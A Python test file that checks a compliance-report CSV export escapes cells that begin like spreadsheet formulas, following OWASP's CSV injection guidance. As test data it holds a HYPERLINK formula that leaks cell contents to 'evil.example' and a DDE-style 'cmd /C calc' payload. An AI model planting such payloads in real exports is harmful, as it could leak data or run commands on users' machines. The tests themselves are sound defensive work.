"""The compliance report as CSV cannot carry a formula into a spreadsheet: the text a case
system sent (a priority, an account) or an admin typed (a reporting category, a milestone's name)
that starts like a formula comes back as text, per OWASP's CSV injection guidance, while the
report's own numbers stay numbers. Records written to the database under test as the workflow
writes them, the CSV read over HTTP."""

import csv
import io

import httpx
import pytest
from fastapi import FastAPI

from api.deps import Services
from api.spreadsheets import Cell, csv_text
from database.records import write_batches
from tests.helpers.records import milestone_record, record_batch
from workflows.records import RecordBatch

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE = {
    "priority": HYPERLINK,
    "account": "=1+1",
    "reporting_category": "@A1",
    "milestone_type": "-2+3",
}
"""Each grouping, and the hostile text its key holds."""


def hostile_batch() -> RecordBatch:
    """A case whose one milestone was met, every text a report groups by starting like a
    formula."""
    milestone = milestone_record(
        milestone=HOSTILE["milestone_type"],
        account_id=HOSTILE["account"],
        reporting_category=HOSTILE["reporting_category"],
        priority_at_start=HYPERLINK,
        priority_at_end=HYPERLINK,
    )
    return record_batch(milestone)


@pytest.mark.parametrize("group_by", HOSTILE)
async def test_text_that_starts_like_a_formula_is_written_as_text(
    app: FastAPI, admin: httpx.AsyncClient, group_by: str
) -> None:
    services: Services = app.state.services
    with services.sessions() as session:
        write_batches(session, [hostile_batch()])
        session.commit()
    period = {"from": "2026-11-30T00:00:00Z", "to": "2026-12-01T00:00:00Z"}
    answer = await admin.get("/reports/compliance.csv", params={**period, "group_by": group_by})
    assert answer.status_code == 200, answer.text
    header, group, total = list(csv.reader(io.StringIO(answer.text)))
    assert header[:4] == ["key", "color", "instances", "met"]
    assert group[0] == "'" + HOSTILE[group_by]
    assert group[2:4] == total[2:4] == ["1", "1"]
    # The cell is quoted, so no separator or quote inside it ends it early.
    assert f'"\'{HOSTILE[group_by].replace(chr(34), chr(34) * 2)}"' in answer.text
    # The report's numbers stay numbers: unquoted.
    assert answer.text.splitlines()[-1] == '"total","",1,1,0,0,0,1.0,1800.0,1800.0'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    text = csv_text(["key", "n"], [{"key": f"{start}cmd|' /C calc'!A0", "n": 1}])
    assert list(csv.reader(io.StringIO(text)))[1] == [f"'{start}cmd|' /C calc'!A0", "1"]


def test_numbers_stay_numbers_and_plain_text_stays_as_it_is() -> None:
    rows: list[dict[str, Cell]] = [{"key": "High", "rate": -1.5, "n": -3, "none": None}]
    text = csv_text(["key", "rate", "n", "none"], rows)
    assert text.splitlines() == ['"key","rate","n","none"', '"High",-1.5,-3,""']
